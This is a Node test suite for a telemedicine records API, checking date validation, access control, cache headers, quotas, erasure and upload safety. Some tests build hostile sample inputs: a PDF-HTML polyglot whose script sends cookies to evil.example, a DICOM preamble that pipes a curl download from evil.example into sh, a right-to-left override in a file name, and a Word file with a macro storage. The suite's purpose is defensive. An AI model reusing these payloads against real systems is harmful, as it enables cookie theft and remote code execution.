import assert from 'node:assert/strict';
import { existsSync, readdirSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { MB, RECORD_TEXTS, storageSize, streams } from '@telemed/contracts';
import { findUserIdByEmail } from '@telemed/command';
import { indiaDate, startTestApp, type TestApp, type TestUser } from '../support/test-app';
import { apiSpec, type ApiSpec, type Then } from '../support/api-spec';
import { moreGiven, PDF, prescriptionFileUploaded, reportUploaded, type MoreGiven } from '../support/api-spec-extra';
import { freePort } from '../support/processes';
import { minimalDoc } from '../support/office-files';

/** A PDF (by its content) of exactly `bytes` bytes. */
const pdfOf = (bytes: number) => Buffer.concat([PDF, Buffer.alloc(bytes - PDF.length, 0x20)]);
const KB = 1024;

/** The blobs stored under DATA_DIR/blobs (not the temporary ones being written). */
const listed = (dir: string) => (existsSync(dir) ? (readdirSync(dir, { recursive: true }) as string[]) : []);
const blobsIn = (dataDir: string) => listed(join(dataDir, 'blobs')).filter((entry) => /^[0-9a-f]{2}[/\\][0-9a-f]{32}$/.test(entry)).sort();
const partsIn = (dataDir: string) => listed(join(dataDir, 'blobs', 'tmp'));

/** Waits (up to 3 s) until `check` holds: refused uploads are discarded just after their answer. */
async function eventually(check: () => boolean, what: string): Promise<void> {
  for (const started = Date.now(); Date.now() - started < 3000; await new Promise((r) => setTimeout(r, 20))) if (check()) return;
  assert.fail(what);
}

/** Clinical records (issue 14): the report date's bounds, the storage quota, and the reads that check access first. */
describe('clinical records: report date, storage quota, access first', () => {
  let t: TestApp;
  let spec: ApiSpec;
  let more: MoreGiven;
  let now = new Date();

  before(async () => {
    t = await startTestApp({ clock: () => now, env: { CONSULTATION_SWEEP_INTERVAL_MS: '3600000' } });
    spec = apiSpec(t);
    more = moreGiven(spec);
  });
  after(() => t.close());

  const givenDoctor = () => spec.given.doctor({ name: 'Dr. Meera Iyer', doctor: { registration_number: 'TNMC-7', medical_council: 'Tamil Nadu Medical Council', qualification: 'MBBS' } });
  /** Given a confirmed appointment of `by` with `who` two days ahead, its consultation joined (the clock moves to its start). */
  const appointment = async (who: TestUser, by: TestUser) => (await more.consultation({ doctor: who, patient: by, setNow: (d) => (now = d) })).appointment_id;

  /** When `who` uploads one lab report (cbc.pdf) dated `date`, or undated. */
  const report = (who: TestUser, date: string | null) =>
    spec.when((http) => {
      const r = http.post('/api/v1/records/reports').set(who.auth).field('report_type', 'lab');
      return (date === null ? r : r.field('report_date', date)).attach('files', PDF, 'cbc.pdf');
    });
  /** A report's upload kept: exactly its file and its report. */
  const kept = (res: Then) => res.expectStatus(201).expectEvents(reportUploaded(res.body.report_id as string, res.body.files.length as number)).expectReactions([]);
  const dateIssue = (res: Then) => {
    res.expectStatus(422).expectNoEvents();
    const issues = res.body.detail as Array<{ loc: string[]; msg: string }>;
    assert.ok(Array.isArray(issues), 'validation detail is a list of {loc, msg, type}');
    const issue = issues.find((d) => d.loc.join('.') === 'body.report_date');
    assert.ok(issue, JSON.stringify(res.body));
    return issue.msg;
  };
  const reportsOf = async (who: TestUser) => (await spec.read((http) => http.get('/api/v1/records/me').set(who.auth).expect(200))).body.reports as Array<{ files: Array<{ file_name: string; download_url: string }> }>;

  it('report date: not before 1900-01-01 nor after today (India), a real date, required; each refusal a 422 naming report_date, nothing kept', async () => {
    const patient = await spec.given.patient({ name: 'Arjun Das' });
    now = new Date();
    assert.equal(dateIssue(await report(patient, '1899-12-31')), RECORD_TEXTS.reportDateTooEarly);
    assert.equal(dateIssue(await report(patient, '0202-03-04')), RECORD_TEXTS.reportDateTooEarly, 'a slip of the year (0202 for 2022)');
    assert.equal(dateIssue(await report(patient, indiaDate(1))), RECORD_TEXTS.reportDateFuture);
    assert.equal(dateIssue(await report(patient, '9999-12-31')), RECORD_TEXTS.reportDateFuture);
    assert.equal(dateIssue(await report(patient, '2023-02-29')), RECORD_TEXTS.reportDateInvalid);
    assert.equal(dateIssue(await report(patient, 'yesterday')), RECORD_TEXTS.reportDateInvalid);
    assert.equal(dateIssue(await report(patient, null)), RECORD_TEXTS.reportDateRequired);
    assert.equal((await reportsOf(patient)).length, 0, 'nothing refused was kept');
    kept(await report(patient, '1900-01-01'));
    kept(await report(patient, indiaDate(0)));
  });

  /** Collections of the read store opened while `work` runs (the record routes open the records' collections per request). */
  async function collectionsRead(work: () => Promise<unknown>): Promise<string[]> {
    const store = t.app.readStore as unknown as { collection(name: string): unknown };
    const original = store.collection;
    const opened: string[] = [];
    store.collection = function (this: unknown, name: string) {
      opened.push(name);
      return original.call(this, name);
    };
    try {
      await work();
    } finally {
      store.collection = original;
    }
    return opened;
  }

  it("a patient's records are looked at only after the caller's access is settled: strangers get 404 without a read of them", async () => {
    const doctor = await givenDoctor();
    const patient = await spec.given.patient({ name: 'Arjun Das' });
    const holder = await spec.given.patient({ name: 'Leela Menon' });
    const id = await appointment(doctor, holder);
    await more.report(holder, 'cbc.pdf');
    await more.prescriptionFile(doctor, id, 'Leela Menon');
    const url = `/api/v1/patients/${holder.user_id}/records`;
    const stranger = await spec.given.doctor();
    const records = ['medical_reports', 'prescriptions', 'prescription_files', 'record_files'];
    // The reads below are timed by hand (no settling inside them), so only their own opening of collections is counted.
    await t.settle();
    for (const who of [stranger, patient]) {
      const opened = await collectionsRead(async () => {
        const res = await t.http.get(url).set(who.auth);
        assert.deepEqual([res.status, res.body.detail], [404, RECORD_TEXTS.patientNotFound]);
      });
      assert.deepEqual(opened.filter((name) => records.includes(name)), [], 'no record collection was read for a caller without access');
    }
    // Those with access still read them (and their doctor's read is on the patient's access log).
    const opened = await collectionsRead(async () => {
      const seen = (await t.http.get(url).set(doctor.auth).expect(200)).body;
      assert.deepEqual([seen.reports.length, seen.prescription_files.length], [1, 1]);
    });
    assert.ok(records.every((name) => opened.includes(name)));
    assert.equal((await spec.read((http) => http.get(url).set(holder.auth).expect(200))).body.reports.length, 1);
    const log = (await spec.read((http) => http.get('/api/v1/users/me/access-log').set(holder.auth).expect(200))).body.entries as Array<{ what: { resource: string } }>;
    assert.ok(log.some((e) => e.what.resource === 'clinical_records'));
  });
  it('a polyglot is saved under the extension of what its content is, and invisible format characters leave file names: never a PDF-HTML saved as .html, nor a name that reads backwards', async () => {
    const patient = await spec.given.patient({ name: 'Arjun Das' });
    const polyglot = Buffer.concat([PDF, Buffer.from('<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>')]);
    const stored = kept(
      await spec.when((http) =>
        http
          .post('/api/v1/records/reports')
          .set(patient.auth)
          .field('report_type', 'lab')
          .field('report_date', indiaDate(0))
          .attach('files', polyglot, { filename: 'lab-report.html', contentType: 'text/html' })
          .attach('files', PDF, { filename: 'scan\u202Egnp.html', contentType: 'image/png' })
          .attach('files', PDF, { filename: "it's (final) *v2*.pdf", contentType: 'application/pdf' })
          .attach('files', PDF, { filename: 'रिपोर्ट.pdf', contentType: 'application/pdf' }),
      ),
    );
    assert.equal(stored.body.files.length, 4);
    assert.deepEqual(stored.body.files.map((f: { file_name: string }) => f.file_name), ['lab-report.pdf', 'scangnp.pdf', "it's (final) *v2*.pdf", 'रिपोर्ट.pdf'], 'names sent as UTF-8 (as browsers do) read as such');
    const listed = (await reportsOf(patient))[0]!.files;
    assert.deepEqual(listed.map((f) => f.file_name), ['lab-report.pdf', 'scangnp.pdf', "it's (final) *v2*.pdf", 'रिपोर्ट.pdf']);
    const saved = async (url: string) => {
      const res = await spec.read((http) => http.get(url).set(patient.auth).expect(200));
      assert.equal(res.headers['content-type'], 'application/pdf');
      assert.equal(res.headers['x-content-type-options'], 'nosniff');
      return res.headers['content-disposition'] as string;
    };
    assert.equal(await saved(listed[0]!.download_url), `attachment; filename="lab-report.pdf"; filename*=UTF-8''lab-report.pdf`);
    assert.equal(await saved(listed[1]!.download_url), `attachment; filename="scangnp.pdf"; filename*=UTF-8''scangnp.pdf`);
    // RFC 8187's value has no quote, parenthesis or star unencoded (a quote there ends the charset's part for some parsers).
    assert.equal(await saved(listed[2]!.download_url), `attachment; filename="it's (final) *v2*.pdf"; filename*=UTF-8''it%27s%20%28final%29%20%2Av2%2A.pdf`);
    assert.equal(await saved(listed[3]!.download_url), `attachment; filename="_______.pdf"; filename*=UTF-8''${encodeURIComponent('रिपोर्ट.pdf')}`);
  });
  it('health data is never kept by a cache: every read of records, notes, prescriptions and files answers Cache-Control: private, no-store', async () => {
    const doctor = await givenDoctor();
    const patient = await spec.given.patient({ name: 'Arjun Das' });
    const id = await appointment(doctor, patient);
    // Given notes, a prescription and a report.
    await t.http.put(`/api/v1/consultations/${id}/notes`).set(doctor.auth).send({ is_draft: false, patient_name: 'Arjun Das', chief_complaint: 'Cough for a week' }).expect(200);
    const rx = (await t.http.post(`/api/v1/consultations/${id}/prescriptions`).set(doctor.auth).send({ lines: [{ medicine: 'Honey lozenges', dosage: '1', frequency: 'twice_daily', duration_value: 3, duration_unit: 'days' }] }).expect(201)).body;
    const { file_id } = await more.report(patient, 'cbc.pdf');
    const reads: Array<[string, TestUser]> = [
      ['/api/v1/records/me', patient],
      [`/api/v1/patients/${patient.user_id}/records`, doctor],
      [`/api/v1/consultations/${id}/notes`, patient],
      [`/api/v1/consultations/${id}/notes`, doctor],
      [`/api/v1/prescriptions/${rx.prescription_id as string}`, patient],
      [`/api/v1/prescriptions/${rx.prescription_id as string}/pdf`, patient],
      [`/api/v1/records/files/${file_id}`, doctor],
    ];
    for (const [url, who] of reads) {
      const res = await spec.read((http) => http.get(url).set(who.auth).expect(200));
      assert.equal(res.headers['cache-control'], 'private, no-store', url);
    }
  });
  it('a DICOM file whose preamble is a program (the PE-DICOM polyglot, CVE-2019-11687) is refused; zeros or a TIFF header are kept', async () => {
    const patient = await spec.given.patient({ name: 'Arjun Das' });
    const dicom = (preamble: Buffer) => Buffer.concat([preamble, Buffer.alloc(128 - preamble.length), Buffer.from('DICM'), Buffer.from('02000000554c0400', 'hex'), Buffer.alloc(64)]);
    const send = (bytes: Buffer, name: string) => spec.when((http) => http.post('/api/v1/records/reports').set(patient.auth).field('report_type', 'mri_ct').field('report_date', indiaDate(0)).attach('files', bytes, name));
    for (const [preamble, name] of [
      [Buffer.concat([Buffer.from('MZ'), Buffer.from([0x90, 0x00, 0x03])]), 'ct-head.dcm'],
      [Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01]), 'mri.dcm'],
      [Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'scan.dcm'],
    ] as const) {
      const refused = (await send(dicom(preamble), name)).expectStatus(415).expectNoEvents();
      assert.equal(refused.body.detail, RECORD_TEXTS.reportFileType(name));
    }
    const plain = kept(await send(dicom(Buffer.alloc(0)), 'plain.dcm'));
    assert.equal(plain.body.files[0].content_type, 'application/dicom');
    kept(await send(dicom(Buffer.from([0x49, 0x49, 0x2a, 0x00])), 'tiff-preamble.dcm'));
  });
  it("a report's type and date are health data: ciphertext in the log, and gone from the read models when the patient is erased (their doctor keeps the clinical records)", async () => {
    const doctor = await givenDoctor();
    const erased = await spec.given.patient({ name: 'Farah Khan' });
    const id = await appointment(doctor, erased);
    const uploaded = kept(await spec.when((http) => http.post('/api/v1/records/reports').set(erased.auth).field('report_type', 'pathology').field('report_date', '2024-03-15').attach('files', PDF, 'biopsy.pdf')));
    await more.prescriptionFile(doctor, id, 'Farah Khan');
    const stored = JSON.stringify((await t.app.eventStore.log.readStream(streams.medicalReport(uploaded.body.report_id as string))).map((e) => e.data));
    for (const secret of ['pathology', '2024-03-15', 'biopsy']) assert.ok(!stored.includes(secret), `the log holds "${secret}" in clear`);
    const url = `/api/v1/patients/${erased.user_id}/records`;
    const before = (await spec.read((http) => http.get(url).set(doctor.auth).expect(200))).body;
    assert.deepEqual([before.reports[0].report_type, before.reports[0].report_date], ['pathology', '2024-03-15'], 'read in clear through the API');
    // After the consultation, the patient erases their data: their reports go, the doctor's prescription file stays.
    now = new Date(now.getTime() + 3 * 3600_000);
    (await spec.when((http) => http.post('/api/v1/users/me/erasure').set(erased.auth)))
      .expectStatus(200)
      .expectEvents([{ stream: streams.user(erased.user_id), type: 'PersonalDataErased' }])
      .expectReactions([]);
    const after = (await spec.read((http) => http.get(url).set(doctor.auth).expect(200))).body;
    assert.deepEqual([after.reports.length, after.prescription_files.length], [0, 1]);
    assert.equal((await t.app.readStore.collection('medical_reports').find({ patient_id: erased.user_id })).length, 0);
    // The report was the patient's, not the doctor's: an erased patient's records are their authors' alone.
    // To the doctor who read it, the file is gone (410), not unknown.
    const gone = (await spec.when((http) => http.get(uploaded.body.files[0].download_url as string).set(doctor.auth))).expectStatus(410).expectNoEvents();
    assert.equal(gone.body.detail, RECORD_TEXTS.fileErased);
  });
  it("institution staff read a patient's records through a doctor only while that doctor is still their member", async () => {
    const operator = await t.createUser('admin');
    // Given a clinic with its administrator and two doctors.
    const created = await t.http
      .post('/api/v1/institutions/')
      .set(operator.auth)
      .send({
        name: 'Clinic Leaving',
        slug: 'clinic-leaving',
        address: 'MG Road',
        phone: '+91 80 5555 0000',
        email: 'leaving@clinic.in',
        staff: [
          { name: 'Admin Leaving', email: 'admin@leaving.in', phone: '+91 90000 20000', account_type: 'ADMIN' },
          { name: 'Doctor Leaving', email: 'doctor@leaving.in', phone: '+91 90000 20001', account_type: 'DOCTOR' },
          { name: 'Peer Leaving', email: 'peer@leaving.in', phone: '+91 90000 20002', account_type: 'DOCTOR' },
        ],
      })
      .expect(201);
    const institutionId = created.body.id as string;
    await t.settle();
    const as = async (email: string, account_type: 'patient' | 'doctor'): Promise<TestUser> => {
      const user_id = (await findUserIdByEmail(t.app.eventStore, email))!;
      const token = await t.app.tokens.issue({ user_id, account_type });
      return { user_id, token, auth: { Authorization: `Bearer ${token}` } };
    };
    const clinicAdmin = await as('admin@leaving.in', 'patient');
    const clinicDoctor = await as('doctor@leaving.in', 'doctor');
    // The clinic's other doctor reads them as the clinic's (its administrator manages appointments, not records).
    const clinicPeer = await as('peer@leaving.in', 'doctor');
    const someone = await spec.given.patient({ name: 'Nisha Pillai' });
    await appointment(clinicDoctor, someone);
    await more.report(someone, 'cbc.pdf');
    const url = `/api/v1/patients/${someone.user_id}/records`;
    const records = (who: TestUser, status: number) => spec.read((http) => http.get(url).set(who.auth).expect(status));
    assert.equal((await records(clinicPeer, 200)).body.reports.length, 1, 'while the doctor is a member');
    await records(clinicAdmin, 404);
    (await spec.when((http) => http.delete(`/api/v1/institutions/${institutionId}/doctors/${clinicDoctor.user_id}`).set(clinicAdmin.auth)))
      .expectStatus(200)
      .expectEvents([{ stream: streams.institution(institutionId), type: 'InstitutionStaffRemoved' }]);
    const { file_id: later } = await more.report(someone, 'cbc.pdf');
    assert.deepEqual((await records(clinicPeer, 404)).body.detail, RECORD_TEXTS.patientNotFound, 'not after the doctor left');
    await spec.read((http) => http.get(`/api/v1/records/files/${later}`).set(clinicPeer.auth).expect(404));
    // The appointment itself stays in the institution's audit.
    assert.equal((await records(clinicDoctor, 200)).body.reports.length, 2, 'the doctor keeps their patient');
  });
  it('a Word 97-2003 document carrying VBA macros (a Macros storage in its directory) is refused as a report and as a prescription file; one without is kept', async () => {
    const doctor = await givenDoctor();
    const patient = await spec.given.patient({ name: 'Arjun Das' });
    // minimalDoc's directory (sector 1, after the header and the FAT) has two free entries: the third becomes Word's
    // `Macros` storage, as Word writes it for a document with macros.
    const withMacros = minimalDoc();
    const entry = 512 * 2 + 128 * 2;
    withMacros.fill(0, entry, entry + 64);
    withMacros.write('Macros', entry, 'utf16le');
    withMacros.writeUInt16LE(('Macros'.length + 1) * 2, entry + 64);
    withMacros.writeUInt8(1, entry + 66); // a storage
    const doc = (bytes: Buffer, name: string) => spec.when((http) => http.post('/api/v1/records/reports').set(patient.auth).field('report_type', 'other').field('report_date', indiaDate(0)).attach('files', bytes, name));
    const refused = (await doc(withMacros, 'discharge.doc')).expectStatus(415).expectNoEvents();
    assert.equal(refused.body.detail, RECORD_TEXTS.reportFileType('discharge.doc'));
    const id = await appointment(doctor, patient);
    const rx = (await spec.when((http) => http.post(`/api/v1/consultations/${id}/prescription-files`).set(doctor.auth).field('patient_name', 'Arjun Das').attach('file', withMacros, 'rx.doc')))
      .expectStatus(415)
      .expectNoEvents();
    assert.equal(rx.body.detail, RECORD_TEXTS.prescriptionFileType);
    kept(await doc(minimalDoc(), 'plain.doc'));
  });
});

describe('clinical records: the per-patient storage quota (RECORDS_QUOTA_MB)', () => {
  let t: TestApp;
  let spec: ApiSpec;
  let more: MoreGiven;
  let now = new Date();
  const QUOTA = 1 * MB;

  before(async () => {
    t = await startTestApp({ clock: () => now, env: { CONSULTATION_SWEEP_INTERVAL_MS: '3600000', RECORDS_QUOTA_MB: '1' } });
    spec = apiSpec(t);
    more = moreGiven(spec);
  });
  after(() => t.close());

  const upload = (who: TestUser, ...files: Buffer[]) => (http: TestApp['http']) => {
    let r = http.post('/api/v1/records/reports').set(who.auth).field('report_type', 'lab').field('report_date', indiaDate(0));
    files.forEach((bytes, i) => (r = r.attach('files', bytes, `scan-${i}.pdf`)));
    return r;
  };
  /** A report's upload kept: exactly its files and its report. */
  const kept = (res: Then) => res.expectStatus(201).expectEvents(reportUploaded(res.body.report_id as string, res.body.files.length as number));
  /** A body announced as `bytes` long, refused before it is read. */
  const announced = (who: TestUser, bytes: number) => (http: TestApp['http']) =>
    http.post('/api/v1/records/reports').set(who.auth).set('Content-Type', 'multipart/form-data; boundary=x').set('Content-Length', String(bytes)).send();
  const reportsOf = async (who: TestUser) => (await spec.read((http) => http.get('/api/v1/records/me').set(who.auth).expect(200))).body.reports as Array<{ total_size: number }>;

  it('refuses (413, saying what is left of the limit) a report that would pass it, keeps nothing of it, and another patient is not held to it', async () => {
    const patient = await spec.given.patient();
    const first = await upload(patient, pdfOf(600 * KB))(t.http).expect(201);
    const before = blobsIn(t.dataDir);
    // At once after the first (the read model may not have counted it yet): still counted. Sent by hand, without the
    // spec helper's settling before a request, so the read model may lag; that it wrote nothing is checked below.
    const refused = await upload(patient, pdfOf(500 * KB))(t.http);
    assert.deepEqual([refused.status, refused.body.detail], [413, RECORD_TEXTS.storageExceeded(storageSize(QUOTA - 600 * KB), storageSize(QUOTA))]);
    assert.equal(refused.body.detail, 'These files do not fit in your records storage: 424 KB of your 1 MB is left.');
    // Several files: the first fits, the second passes the limit while it flows; neither is kept.
    (await spec.when(upload(patient, pdfOf(300 * KB), pdfOf(300 * KB)))).expectStatus(413).expectNoEvents();
    await eventually(() => blobsIn(t.dataDir).join() === before.join() && partsIn(t.dataDir).length === 0, 'the refused uploads left blobs behind');
    assert.deepEqual((await reportsOf(patient)).map((r) => r.total_size), [600 * KB]);
    assert.deepEqual(
      (await t.app.eventStore.readAll({ fromPosition: 0, limit: 100_000 })).filter((e) => e.type === 'MedicalReportUploaded' && (e.data as { patient_id: string }).patient_id === patient.user_id).map((e) => e.stream_id),
      [streams.medicalReport(first.body.report_id as string)],
      'only the first report was written',
    );
    // What is left still takes a report that fits; then the storage is full and says so before reading a body.
    kept(await spec.when(upload(patient, pdfOf(QUOTA - 600 * KB))));
    const full = (await spec.when(upload(patient, PDF))).expectStatus(413).expectNoEvents();
    assert.equal(full.body.detail, RECORD_TEXTS.storageFull('1 MB'));
    const whole = (await spec.when(announced(patient, 50 * MB))).expectStatus(413).expectNoEvents();
    assert.equal(whole.body.detail, RECORD_TEXTS.storageFull('1 MB'));
    // Another patient has their own quota.
    const other = await spec.given.patient();
    kept(await spec.when(upload(other, pdfOf(900 * KB))));
  });

  it('a body announced larger than the room left is refused before it is read', async () => {
    const patient = await spec.given.patient();
    kept(await spec.when(upload(patient, pdfOf(800 * KB))));
    const res = (await spec.when(announced(patient, 2 * MB))).expectStatus(413).expectNoEvents();
    assert.equal(res.body.detail, RECORD_TEXTS.storageExceeded(storageSize(224 * KB), '1 MB'));
  });

  it('uploads of one patient at once cannot pass the limit together', async () => {
    const patient = await spec.given.patient();
    // Three requests at once: sent by hand (the spec helper sends one request at a time).
    const answers = await Promise.all([upload(patient, pdfOf(400 * KB))(t.http), upload(patient, pdfOf(400 * KB))(t.http), upload(patient, pdfOf(400 * KB))(t.http)]);
    const kept = answers.filter((a) => a.status === 201).length;
    assert.ok(answers.every((a) => a.status === 201 || a.status === 413), answers.map((a) => a.status).join());
    assert.ok(kept >= 1 && kept <= 2, `${kept} of three 400 KB uploads kept under a 1 MB quota`);
    const stored = (await reportsOf(patient)).reduce((n, r) => n + r.total_size, 0);
    assert.ok(stored <= QUOTA, `${stored} bytes stored`);
  });

  it("the doctor's prescription files count towards the patient's storage but are never refused by it (the patient cannot stop their doctor's records)", async () => {
    const doctor = await spec.given.doctor({ name: 'Dr. Quota', doctor: { registration_number: 'Q-1', medical_council: 'MC', qualification: 'MBBS' } });
    const patient = await spec.given.patient();
    // In the consultation: a prescription follows one.
    const { appointment_id: id } = await more.consultation({ doctor, patient, setNow: (d) => (now = d) });
    kept(await spec.when(upload(patient, pdfOf(QUOTA - 10 * KB))));
    const rx = (await spec.when((http) => http.post(`/api/v1/consultations/${id}/prescription-files`).set(doctor.auth).field('patient_name', 'Someone').attach('file', pdfOf(100 * KB), 'rx.pdf'))).expectStatus(201);
    rx.expectEvents(prescriptionFileUploaded(rx.body.record_id as string));
    const full = (await spec.when(upload(patient, PDF))).expectStatus(413).expectNoEvents();
    assert.equal(full.body.detail, RECORD_TEXTS.storageFull('1 MB'));
  });
});

describe('clinical records: an upload cut off or stalled keeps nothing', () => {
  let t: TestApp;
  let port = 0;
  let patient: TestUser;

  before(async () => {
    port = await freePort();
    t = await startTestApp({ env: { HTTP_UPLOAD_IDLE_TIMEOUT_MS: '400', PORT: String(port) } });
    await t.app.listen(port, '127.0.0.1');
    patient = await t.createUser('patient');
  });
  after(() => t.close());

  /** Starts a report upload by hand that sends `parts` and then nothing more (announcing 5 MB). */
  function partialUpload(parts: string) {
    const socket = connect(port, '127.0.0.1');
    socket.on('error', () => undefined);
    socket.write(`POST /api/v1/records/reports HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${patient.token}\r\nContent-Type: multipart/form-data; boundary=B0\r\nContent-Length: 5000000\r\n\r\n${parts}`);
    return socket;
  }
  const filePart = (name: string, body: string) => `--B0\r\nContent-Disposition: form-data; name="files"; filename="${name}"\r\nContent-Type: application/pdf\r\n\r\n${body}`;
  const pdfText = (bytes: number) => `%PDF-1.4\n${'x'.repeat(bytes)}`;

  it('a client that goes away mid-file leaves no partial blob, nor the files it had sent whole before', async () => {
    const before = blobsIn(t.dataDir);
    // Mid-way through a file past its first 64 KiB (being written to storage: its part file is there).
    const first = partialUpload(filePart('big.pdf', pdfText(300_000)));
    await eventually(() => partsIn(t.dataDir).length > 0, 'the first 64 KiB of the file were not written to storage');
    first.destroy();
    await eventually(() => partsIn(t.dataDir).length === 0, `partial blobs left: ${partsIn(t.dataDir).join()}`);
    // One whole file (stored), then the next still in its first bytes (its type not yet decided).
    const second = partialUpload(`${filePart('whole.pdf', pdfText(200_000))}\r\n${filePart('next.pdf', pdfText(1_000))}`);
    await eventually(() => blobsIn(t.dataDir).length === before.length + 1, 'the whole file was not stored');
    second.destroy();
    await eventually(() => partsIn(t.dataDir).length === 0, `partial blobs left: ${partsIn(t.dataDir).join()}`);
    await eventually(() => blobsIn(t.dataDir).join() === before.join(), 'the file sent whole before the cut was kept without a record');
  });

  it('an upload that stops sending is answered 408 and keeps nothing', async () => {
    const before = blobsIn(t.dataDir);
    const socket = partialUpload(`${filePart('whole.pdf', pdfText(200_000))}\r\n${filePart('stalled.pdf', pdfText(150_000))}`);
    const answer = await new Promise<string>((resolve) => {
      let text = '';
      // The answer's head is enough: the server keeps reading (and dropping) the rest for a while before it closes.
      socket.on('data', (chunk: Buffer) => {
        text += String(chunk);
        if (text.includes('\r\n\r\n')) resolve(text);
      });
      socket.on('close', () => resolve(text));
      setTimeout(() => resolve(text), 5000);
    });
    socket.destroy();
    assert.match(answer, /^HTTP\/1\.1 408/);
    await eventually(() => partsIn(t.dataDir).length === 0, `partial blobs left: ${partsIn(t.dataDir).join()}`);
    await eventually(() => blobsIn(t.dataDir).join() === before.join(), 'a file of the stalled upload was kept');
    await t.settle();
    assert.equal((await t.http.get('/api/v1/records/me').set(patient.auth).expect(200)).body.reports.length, 0);
  });
});
